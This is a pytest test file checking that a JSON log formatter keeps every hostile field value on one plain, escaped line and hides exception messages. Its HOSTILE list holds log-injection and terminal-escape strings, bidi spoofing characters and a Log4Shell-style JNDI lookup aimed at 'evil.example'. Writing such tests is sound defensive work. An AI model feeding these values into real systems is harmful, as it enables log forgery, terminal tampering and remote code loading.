"""S10: whatever stands in a field, a log line is one line of JSON with nothing in it that moves a terminal or hides."""

from __future__ import annotations

import io
import json
import logging

import pytest

from tracetape.logs import JsonLines

HOSTILE = (
    "two\nlines",
    '\r\n{"level": "info", "message": "forged"}',
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x00\x08\x7f\x9b31m",
    "\u202eexe.gpj\u2066hidden\u2069",
    "\u2028line\u2029separators\u0085next",
    "\ufeff\u200b\U000e0041tag",
    "\ud800 half of a pair",
    "%s %d %(name)s {0} ${jndi:ldap://evil.example/a}",
)


def line_of(
    *, logger: str = "tests", message: str = "it happened", args: tuple[object, ...] = (), **extra: object
) -> str:
    own = logging.Logger(logger)  # noqa: LOG001 one that nobody else hears
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(JsonLines())
    own.addHandler(handler)
    own.warning(message, *args, **extra)
    return out.getvalue()


def is_one_plain_line(text: str) -> bool:
    return text.endswith("\n") and all(" " <= c <= "~" for c in text[:-1])


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_s10_every_field_stays_in_its_line(hostile):
    key = "field" + hostile
    for text in (
        line_of(message="about %s", args=(hostile,)),
        line_of(logger=hostile),
        line_of(extra={"target": hostile}),
        line_of(extra={key: 1}),
        line_of(extra={"nested": {hostile: [hostile, {"deep": hostile}]}}),
        line_of(extra={"odd": ValueError(hostile)}),
    ):
        assert is_one_plain_line(text), text
        assert json.loads(text)["level"] == "warning"
    assert json.loads(line_of(extra={"target": hostile}))["target"] == hostile


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_s10_an_error_is_told_by_its_kind_and_never_by_its_words(hostile):
    text = line_of(exc_info=RuntimeError(f"secret {hostile}"))
    assert is_one_plain_line(text)
    told = json.loads(text)
    assert told["error"] == "RuntimeError"
    assert "secret" not in text
